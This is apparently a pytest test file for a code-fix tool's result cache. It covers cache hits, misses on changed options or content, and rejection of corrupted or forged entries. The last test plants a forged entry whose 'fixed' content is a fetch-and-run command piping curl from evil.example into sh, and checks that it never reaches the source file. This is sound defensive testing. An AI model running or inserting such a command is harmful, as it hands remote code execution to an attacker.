"""The result cache: hits skip the engine and give the same results, anything that could change a
result misses, and entries that are corrupt, truncated or foreign are ignored."""

from __future__ import annotations

import base64
import hashlib
import json
import shutil
from dataclasses import fields, replace
from pathlib import Path

import pytest
from click.testing import CliRunner

import jaxfix
import jaxfix.engine
from fixture_cases import all_cases
from helpers import options_from_args
from jaxfix import cache as cache_module
from jaxfix.cache import CACHE_DIR_NAME, Cache, cache_dir
from jaxfix.cli.main import cli
from jaxfix.config import Config
from jaxfix.diagnostics import Diagnostic
from jaxfix.options import Options
from jaxfix.runner import run_files
from toy_rules import toy_rules  # noqa: F401 - a pytest fixture

VIOLATION = b"from lib import old_api\n\nold_api()\nrisky()\n"


def toy_options(*args: str) -> Options:
    """Options selecting only the toy rules (call once the toy_rules fixture registered them)."""
    return options_from_args(["--select", "JAX9", *args])


@pytest.fixture
def engine_calls(monkeypatch):
    """Counts the files the engine parses (the cache's whole point is to make this zero)."""
    calls: list[Path] = []
    real = jaxfix.engine.process_source

    def counting(path, source, options):
        calls.append(path)
        return real(path, source, options)

    monkeypatch.setattr(jaxfix.engine, "process_source", counting)
    return calls


@pytest.fixture
def tree(tmp_path, toy_rules):  # noqa: F811 - pytest fixture injection
    (tmp_path / "src").mkdir()
    (tmp_path / "src" / "bad.py").write_bytes(VIOLATION)
    (tmp_path / "src" / "clean.py").write_bytes(b"import os\n")
    return tmp_path


def run(tree: Path, options: Options | None = None, *, write: bool = False, cache: bool = True, jobs: int = 1):
    options = options or toy_options()
    files = sorted((tree / "src").glob("*.py"))
    return run_files(files, options, write=write, jobs=jobs, cache=Cache(tree / "cache", options) if cache else None)


def entries(tree: Path) -> list[Path]:
    return sorted(p for p in (tree / "cache").iterdir() if not p.name.startswith((".", "CACHEDIR")))


def test_second_run_is_a_hit_with_identical_results(tree, engine_calls):
    uncached = run(tree, cache=False)
    first = run(tree)
    assert engine_calls == [tree / "src" / "bad.py"] * 2  # the file without tokens is never parsed
    second = run(tree)
    assert len(engine_calls) == 2
    assert first == second == uncached
    assert second[0].fixed is not None and second[0].diagnostics


def test_every_fixture_round_trips_through_the_cache(tmp_path, engine_calls):
    cases = all_cases()
    for case in cases:
        target = tmp_path / "src" / case.code / case.before.name
        target.parent.mkdir(parents=True, exist_ok=True)
        shutil.copyfile(case.before, target)
    # one option set per run: the fixtures' own options differ, so group by them
    by_args: dict[tuple[str, ...], list[Path]] = {}
    for case in cases:
        by_args.setdefault(tuple(case.cli_args), []).append(tmp_path / "src" / case.code / case.before.name)
    for args, files in by_args.items():
        options = options_from_args(list(args))
        fresh = run_files(files, options, write=False, jobs=2, cache=Cache(tmp_path / "cache", options))  # misses
        calls = len(engine_calls)  # counted only in this process: the hits below run here (jobs=1)
        assert run_files(files, options, write=False, jobs=1, cache=Cache(tmp_path / "cache", options)) == fresh
        assert len(engine_calls) == calls


def test_changed_content_misses(tree, engine_calls):
    run(tree)
    (tree / "src" / "bad.py").write_bytes(VIOLATION + b"risky()\n")
    result = run(tree)[0]
    assert len(engine_calls) == 2
    assert [d.code for d in result.diagnostics] == ["JAX901", "JAX903", "JAX903"]


def _changed(value):
    if isinstance(value, bool):
        return not value
    if isinstance(value, int):
        return value + 1
    if isinstance(value, tuple):
        return (*value, "x") if not value or isinstance(value[0], str) else (*value, 99)
    if value is None or isinstance(value, str):
        return "changed"
    raise AssertionError(f"teach this test how to change {value!r}")


def test_every_option_that_can_change_a_result_is_in_the_key():
    base = Options(jax_version=(0, 10, 2), changed_lines=None)
    fingerprint = cache_module.settings_fingerprint(base, ("JAX001",))
    for field in fields(Options):
        if field.name == "changed_lines":
            other = replace(base, changed_lines={Path("/a.py"): frozenset({1})})
        else:
            other = replace(base, **{field.name: _changed(getattr(base, field.name))})
        changes_key = cache_module.settings_fingerprint(other, ("JAX001",)) != fingerprint
        assert changes_key == (field.name not in cache_module._OPTIONS_NOT_IN_KEY), field.name


@pytest.mark.parametrize("args", [["--unsafe-fixes"], ["--jax-version", "0.9.0"], ["--ignore", "JAX903"]])
def test_different_options_miss(tree, engine_calls, args):
    run(tree)
    run(tree, toy_options(*args))
    assert len(engine_calls) == 2
    assert len(entries(tree)) == 1  # the new result replaced the old one: one entry per file


def test_other_jaxfix_version_misses(tree, engine_calls, monkeypatch):
    run(tree)
    monkeypatch.setattr(jaxfix, "__version__", "99.0.0")
    run(tree)
    assert len(engine_calls) == 2


def test_editing_jaxfix_source_changes_the_key(tmp_path, monkeypatch):
    package = tmp_path / "jaxfix"
    shutil.copytree(Path(jaxfix.__file__).parent, package, ignore=shutil.ignore_patterns("__pycache__"))
    monkeypatch.setattr(jaxfix, "__file__", str(package / "__init__.py"))
    before = cache_module.settings_fingerprint(Options(), ("JAX001",))
    rule = next((package / "codemods").glob("jax00*.py"))
    rule.write_text(rule.read_text() + "\n# edited\n")
    assert cache_module.settings_fingerprint(Options(), ("JAX001",)) != before


def test_a_cached_would_change_result_is_rederived_before_it_is_written(tree, engine_calls):
    checked = run(tree)[0]
    assert checked.fixed is not None and not checked.written
    fixed = run(tree, write=True)[0]
    assert len(engine_calls) == 2  # never written from the cache: parsed again
    assert fixed.written and (tree / "src" / "bad.py").read_bytes() == checked.fixed
    after = run(tree)[0]  # new content: parsed again, and what is left is what the fix left
    assert len(engine_calls) == 3
    assert after.fixed is None and [d.code for d in after.diagnostics] == ["JAX903"]


def _entry_for_bad(tree: Path) -> Path:
    (entry,) = entries(tree)
    return entry


def _rewrite_body(entry: Path, change) -> None:
    """Change an entry's JSON and recompute its checksum, as a forger would."""
    magic, checksum, body = entry.read_bytes().split(b"\n", 2)
    data = change(json.loads(body))
    body = json.dumps(data).encode()
    entry.write_bytes(magic + b"\n" + hashlib.sha256(body).hexdigest().encode() + b"\n" + body)


CORRUPTIONS = {
    "truncated": lambda e: e.write_bytes(e.read_bytes()[:-20]),
    "empty": lambda e: e.write_bytes(b""),
    "garbage": lambda e: e.write_bytes(b"\x00\xff" * 100),
    "byte flipped in the body": lambda e: e.write_bytes(e.read_bytes()[:-5] + b"X" + e.read_bytes()[-4:]),
    "other magic": lambda e: e.write_bytes(b"ruff-cache" + e.read_bytes()[len(b"jaxfix-cache"):]),
    "other settings": lambda e: _rewrite_body(e, lambda d: {**d, "settings": "0" * 64}),
    "other file's entry": lambda e: _rewrite_body(e, lambda d: {**d, "path": "/elsewhere.py"}),
    "other content": lambda e: _rewrite_body(e, lambda d: {**d, "source": "0" * 64}),
    "unselected rule": lambda e: _rewrite_body(e, lambda d: {**d, "diagnostics": [{**d["diagnostics"][0], "code": "JAX001"}]}),
    "bad location": lambda e: _rewrite_body(e, lambda d: {**d, "diagnostics": [{**d["diagnostics"][0], "start": [0, "x"]}]}),
    "bad safety": lambda e: _rewrite_body(e, lambda d: {**d, "diagnostics": [{**d["diagnostics"][0], "fix_safety": "maybe"}]}),
    "missing key": lambda e: _rewrite_body(e, lambda d: {k: v for k, v in d.items() if k != "diagnostics"}),
    "not base64": lambda e: _rewrite_body(e, lambda d: {**d, "fixed": "!!!"}),
    "a list, not an object": lambda e: _rewrite_body(e, lambda d: [d]),
    "wrong shape": lambda e: _rewrite_body(e, lambda d: {**d, "diagnostics": [[[[[[[[[[[[]]]]]]]]]]]]}),
    "a directory": lambda e: (e.unlink(), e.mkdir()),
}


@pytest.mark.parametrize("corrupt", CORRUPTIONS.values(), ids=CORRUPTIONS.keys())
def test_bad_entries_are_ignored_and_replaced(tree, engine_calls, corrupt):
    good = run(tree)
    entry = _entry_for_bad(tree)
    corrupt(entry)
    source = (tree / "src" / "bad.py").read_bytes()
    assert Cache(tree / "cache", toy_options()).get(tree / "src" / "bad.py", source) is None
    assert run(tree) == good
    assert len(engine_calls) == 2


def test_an_entry_for_unchanged_fixed_bytes_is_not_trusted(tree):
    run(tree)
    entry = _entry_for_bad(tree)
    _rewrite_body(entry, lambda d: {**d, "fixed": base64.b64encode(VIOLATION).decode()})
    assert Cache(tree / "cache", toy_options()).get(tree / "src" / "bad.py", VIOLATION) is None


def test_the_codec_covers_every_diagnostic_field():
    assert set(cache_module._encode(Diagnostic("JAX001", "m", *[jaxfix.diagnostics.Location(1, 1)] * 2))) == {
        f.name for f in fields(Diagnostic)
    }


def test_cache_directory_is_marked_and_writes_leave_no_temp_files(tree):
    run(tree)
    names = {p.name for p in (tree / "cache").iterdir()}
    assert {".gitignore", "CACHEDIR.TAG"} < names and len(names) == 3
    assert "*" in (tree / "cache" / ".gitignore").read_text().splitlines()


def test_an_existing_directory_gets_no_gitignore(tree):
    (tree / "cache").mkdir()
    run(tree)
    assert not (tree / "cache" / ".gitignore").exists()
    assert len(entries(tree)) == 1


def test_an_unwritable_cache_only_costs_speed(tree):
    (tree / "cache").write_text("a file where the directory should be")
    assert run(tree) == run(tree, cache=False)


def test_cache_dir_resolution(tmp_path):
    project = tmp_path / "project"
    (project / "src" / "pkg").mkdir(parents=True)
    config_file = project / "pyproject.toml"
    paths = [project / "src" / "pkg", project / "src" / "a.py"]
    assert cache_dir(tmp_path / "flag", Config(config_file, {"cache-dir": "c"}), paths) == tmp_path / "flag"
    assert cache_dir(None, Config(config_file, {"cache-dir": "c"}), paths) == project / "c"
    assert cache_dir(None, Config(config_file, {}), paths) == project / CACHE_DIR_NAME
    assert cache_dir(None, Config(None, {}), paths) == project / "src" / CACHE_DIR_NAME


def test_cli_caches_in_the_project_root_and_no_cache_writes_nothing(tmp_path, monkeypatch):
    (tmp_path / "pyproject.toml").write_text("[tool.jaxfix]\nselect = ['JAX002']\n")
    case = next(c for c in all_cases() if c.code == "JAX002" and c.fixed is not None)
    (tmp_path / "src").mkdir()
    shutil.copyfile(case.before, tmp_path / "src" / "case.py")
    monkeypatch.chdir(tmp_path)
    runner = CliRunner()
    args = ["--check", "-j", "1", "--unsafe-fixes", "--jax-version", case.header["target-jax"], "src"]
    uncached = runner.invoke(cli, ["--no-cache", *args])
    assert not (tmp_path / CACHE_DIR_NAME).exists()
    cold = runner.invoke(cli, args)
    warm = runner.invoke(cli, args)
    assert (tmp_path / CACHE_DIR_NAME / ".gitignore").exists()
    assert uncached.exit_code == cold.exit_code == warm.exit_code == 1
    assert uncached.output == cold.output == warm.output
    elsewhere = runner.invoke(cli, ["--cache-dir", str(tmp_path / "elsewhere"), *args])
    assert elsewhere.output == uncached.output
    assert (tmp_path / "elsewhere" / "CACHEDIR.TAG").exists()


def test_a_forged_entry_never_reaches_the_source_file(tree, engine_calls):
    """A CI cache restored from an untrusted branch: content replaced, checksum recomputed."""
    honest = run(tree)[0].fixed
    evil = b"import os\nos.system('curl evil.example | sh')\n"
    _rewrite_body(_entry_for_bad(tree), lambda d: {**d, "fixed": base64.b64encode(evil).decode()})
    assert run(tree)[0].fixed == evil  # the checksum cannot tell: a dry run shows what the entry says
    fixed = run(tree, write=True)[0]
    assert fixed.written and (tree / "src" / "bad.py").read_bytes() == honest != evil
